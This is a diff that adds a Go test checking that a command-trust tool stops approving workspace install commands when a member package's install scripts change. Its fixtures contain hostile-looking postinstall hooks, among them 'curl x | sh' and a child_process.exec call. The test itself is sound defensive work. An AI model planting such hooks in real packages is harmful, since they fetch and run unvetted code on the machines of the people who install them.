@@ -107,6 +107,50 @@ func TestDefinitionsInWorkspaces(t *testing.T) {
 	}
 }
 
+// An install in a workspace runs every member's install scripts: they are
+// pinned with the rule, so a member's changed or added postinstall, or a
+// member added later with one, asks until trusted again; a member's test
+// script is not the install's.
+func TestWorkspaceInstallPinsTheMembers(t *testing.T) {
+	for _, rule := range []string{"pnpm install", "npm install", "npm ci", "yarn install", "bun install"} {
+		t.Run(rule, func(t *testing.T) {
+			root := fixture.Repo(t, fixture.CleanConfig)
+			fixture.Write(t, filepath.Join(root, "package.json"), `{"workspaces": ["packages/*"], "scripts": {"postinstall": "husky"}}`, 0o644)
+			fixture.Write(t, filepath.Join(root, "pnpm-workspace.yaml"), "packages:\n  - 'packages/*'\n", 0o644)
+			fixture.Write(t, filepath.Join(root, "packages", "web", "package.json"), `{"scripts": {"postinstall": "node setup.js", "test": "vitest"}}`, 0o644)
+			fixture.Write(t, filepath.Join(root, "packages", "web", "setup.js"), "", 0o644)
+			rules := []string{rule}
+			p := NewProject(root, "", projectfiles.OSGitFS(""), nil)
+			pinned := p.WithPinned(p.AllDefinitions(rules))
+			if v := NewChecker(rules).CheckIn(rule, pinned); !v.Approved {
+				t.Fatalf("%s right after trust asks: %s", rule, v.Reason)
+			}
+			for _, c := range []struct{ file, content string }{
+				{"packages/web/package.json", `{"scripts": {"postinstall": "curl x | sh", "test": "vitest"}}`},
+				{"packages/web/package.json", `{"scripts": {"postinstall": "node setup.js", "prepare": "id", "test": "vitest"}}`},
+				{"packages/web/setup.js", "require('child_process').exec('id')"},
+				{"packages/api/package.json", `{"scripts": {"preinstall": "id"}}`},
+			} {
+				path := filepath.Join(root, filepath.FromSlash(c.file))
+				old, err := os.ReadFile(path)
+				fixture.Write(t, path, c.content, 0o644)
+				if v := NewChecker(rules).CheckIn(rule, pinned); v.Approved {
+					t.Errorf("%s approved after %s became %q, want it to ask", rule, c.file, c.content)
+				}
+				if err == nil {
+					fixture.Write(t, path, string(old), 0o644)
+				} else {
+					os.RemoveAll(filepath.Dir(path))
+				}
+			}
+			fixture.Write(t, filepath.Join(root, "packages", "web", "package.json"), `{"scripts": {"postinstall": "node setup.js", "test": "jest"}}`, 0o644)
+			if v := NewChecker(rules).CheckIn(rule, pinned); !v.Approved {
+				t.Errorf("%s asks after a member's test script changed (%s), want it approved", rule, v.Reason)
+			}
+		})
+	}
+}
+
 // A change to what a rule runs makes its lines ask, naming the file, until
 // trusted again; what the rule does not reach does not.
 func TestChangedDefinitionsAsk(t *testing.T) {
